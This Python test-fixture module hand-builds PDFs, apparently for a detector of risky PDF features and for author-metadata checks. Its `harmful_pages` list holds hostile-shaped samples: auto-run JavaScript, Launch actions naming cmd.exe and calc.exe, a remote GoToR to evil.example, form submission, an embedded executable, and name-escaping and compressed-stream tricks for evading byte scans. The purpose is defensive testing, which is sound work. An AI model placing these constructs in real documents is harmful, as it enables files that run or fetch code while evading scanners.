"""PDFs written by hand: what drawing programs, and those who mean harm, put into them."""

from __future__ import annotations

import io
import zlib

import pypdfium2
from PIL import Image

from demo.factories import files

PAGE = {
    1: "<</Type/Catalog/Pages 2 0 R{catalogue}>>",
    2: "<</Type/Pages/Kids[3 0 R]/Count 1>>",
    3: "<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 100]{page}>>",
}


def written(
    catalogue: str = "", page: str = "", trailer: str = "", **objects: str | bytes
) -> bytes:
    """A page of 600 × 100 points, with more in its catalogue, on the page and as objects ("n7" is 7)."""
    bodies: dict[int, bytes] = {
        number: body.format(catalogue=catalogue, page=page).encode()
        for number, body in PAGE.items()
    }
    bodies |= {
        int(name[1:]): body if isinstance(body, bytes) else body.encode()
        for name, body in objects.items()
    }
    content, places = b"%PDF-1.7\n", {}
    for number, body in bodies.items():
        places[number] = len(content)
        content += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    rows = [b"0000000000 65535 f \n"]
    for number in range(1, max(bodies) + 1):
        rows.append(
            b"%010d 00000 n \n" % places[number] if number in places else b"0000000000 65535 f \n"
        )
    ends = b"trailer<</Root 1 0 R/Size %d %b>>\nstartxref\n%d\n%%%%EOF\n"
    start = len(content)
    return content + b"xref\n0 %d\n" % len(rows) + b"".join(rows) + ends % (
        len(rows), trailer.encode(), start,
    )  # fmt: skip


def stream(content: bytes, head: str = "") -> bytes:
    return b"<<%b/Length %d>>stream\n%b\nendstream" % (head.encode(), len(content), content)


def packed(catalogue: str = "", **objects: str) -> bytes:
    """The same with every object packed into a stream, where no search of the bytes finds it."""
    bodies = {number: body.format(catalogue=catalogue, page="") for number, body in PAGE.items()}
    bodies |= {int(name[1:]): body for name, body in objects.items()}
    head, inner = "", ""
    for number, body in bodies.items():
        head += f"{number} {len(inner)} "
        inner += body + " "
    holder, table = max(bodies) + 1, max(bodies) + 2
    squeezed = zlib.compress((head + inner).encode())
    content = b"%PDF-1.5\n"
    place = len(content)
    kind = f"/Type/ObjStm/N {len(bodies)}/First {len(head)}/Filter/FlateDecode"
    content += b"%d 0 obj\n%b\nendobj\n" % (holder, stream(squeezed, kind))
    start = len(content)
    order = list(bodies)
    rows = b"\0" + b"\0" * 4 + b"\xff"
    for number in range(1, table + 1):
        if number in bodies:
            rows += b"\2" + holder.to_bytes(4, "big") + bytes([order.index(number)])
        else:
            rows += b"\1" + (place if number == holder else start).to_bytes(4, "big") + b"\0"
    kind = f"/Type/XRef/Size {table + 1}/W[1 4 1]/Root 1 0 R"
    content += b"%d 0 obj\n%b\nendobj\n" % (table, stream(rows, kind))
    return content + b"startxref\n%d\n%%%%EOF\n" % start


def harmful_pages() -> list[tuple[str, bytes, str]]:
    """PDFs that would run, fetch, send or carry something, and the word for it."""
    script = "<</S/JavaScript/JS(app.alert\\(1\\))>>"
    note = "/Annots[<</Type/Annot/Subtype/{}/Rect[0 0 9 9]{}>>]"
    attached = (
        "/Names<</EmbeddedFiles<</Names[(a.exe)<</Type/Filespec/F(a.exe)/EF<</F 7 0 R>>>>]>>>>"
    )
    return [
        ("x.pdf", written("/OpenAction " + script), "JS"),
        ("x.pdf", written("/OpenAction 7 0 R", n7=script), "JS"),
        ("x.pdf", written("/OpenAction 7 0 R", n7="<</S/J#61vaScript/#4aS 8 0 R>>", n8="(x)"), "JS"),
        ("x.pdf", written("/OpenAction 7 0 R", n7="<</S 8 0 R/N 1>>", n8="/Launch"), "Launch"),
        ("x.pdf", packed("/OpenAction 7 0 R", n7=script), "JS"),
        ("x.pdf", packed("/OpenAction 7 0 R", n7="<</S/Launch/F(cmd.exe)>>"), "Launch"),
        ("x.pdf", written("/Names<</JavaScript<</Names[(a)" + script + "]>>>>"), "JavaScript"),
        ("x.pdf", written(page="/AA<</O" + script + ">>"), "JS"),
        ("x.pdf", written(page=note.format("Link", "/A<</S/Launch/F(calc.exe)>>")), "Launch"),
        ("x.pdf", written(page=note.format("Link", "/A<</S/URI/URI(javascript:a)>>")), "javascript"),
        ("x.pdf", written(page=note.format("Link", "/A<</S/URI/URI<66696c653a2f2f61>>>")), "file:"),
        ("x.pdf", written(page=note.format("Link", "/A<</S/GoToR/F(//evil.example/x)>>")), "GoToR"),
        ("x.pdf", written(page=note.format("Link", "/A<</S/SubmitForm/F(http://x)>>")), "SubmitForm"),
        ("x.pdf", written(page=note.format("RichMedia", "")), "RichMedia"),
        ("x.pdf", written(page=note.format("FileAttachment", "")), "FileAttachment"),
        ("x.pdf", written(attached, n7=stream(b"MZ", "/Type/EmbeddedFile")), "Embedded"),
        ("x.pdf", written("/AcroForm<</XFA 7 0 R/Fields[]>>", n7=stream(b"<xdp/>")), "XFA"),
    ]  # fmt: skip


def with_picture(dots: int, points: float, within_form: float = 1.0) -> bytes:
    """A page of 600 × 100 points with a picture so many dots wide on so many points."""
    picture = Image.open(io.BytesIO(files.pixels(dots, max(3, dots // 6), "jpeg")))
    saved = io.BytesIO()
    picture.save(saved, "JPEG")
    head = (
        f"/Type/XObject/Subtype/Image/Width {picture.width}/Height {picture.height}"
        "/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/DCTDecode"
    )
    own = points / within_form
    form = "/Type/XObject/Subtype/Form/BBox[0 0 600 600]/Resources<</XObject<</P 7 0 R>>>>"
    drawn = f"q {own} 0 0 {own * picture.height / picture.width} 0 0 cm /P Do Q"
    page = f"q {within_form} 0 0 {within_form} 0 0 cm /F Do Q"
    return written(
        page="/Contents 5 0 R/Resources<</XObject<</F 6 0 R>>>>",
        n5=stream(page.encode()), n6=stream(drawn.encode(), form), n7=stream(saved.getvalue(), head),
    )  # fmt: skip


def packet(inner: str) -> bytes:
    """A packet of XMP."""
    return (
        '<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">'
        f"<rdf:RDF>{inner}</rdf:RDF></x:xmpmeta><?xpacket end='w'?>"
    ).encode()


def signed(author: str) -> bytes:
    """A page that names who made it, in all the places where programs write it."""
    plain = packet(f"<dc:creator><rdf:Seq><rdf:li>{author}</rdf:li></rdf:Seq></dc:creator>"
                   '<rdf:Description pdfxid:GTS_PDFXVersion="PDF/X-4"/>')  # fmt: skip
    squeezed = zlib.compress(
        packet(f"<xmp:a>C:\\{author}</xmp:a><stRef:filePath>x</stRef:filePath>")
    )
    return written(
        "/Metadata 7 0 R", "/Metadata 8 0 R/Contents 5 0 R", "/Info 6 0 R",
        n5=stream(b"0.64 0.09 0.12 rg 0 0 300 100 re f"),
        n6=f"<</Title(T\\(1\\))/Author({author})/Company({author})/GTS_PDFXVersion(PDF/X-4)>>",
        n7=stream(plain, "/Type/Metadata/Subtype/XML"),
        n8=stream(squeezed, "/Type/Metadata/Subtype/XML/Filter/FlateDecode"),
    )  # fmt: skip


def information(content: bytes) -> dict[str, str]:
    """What a PDF says about itself."""
    return pypdfium2.PdfDocument(content).get_metadata_dict()
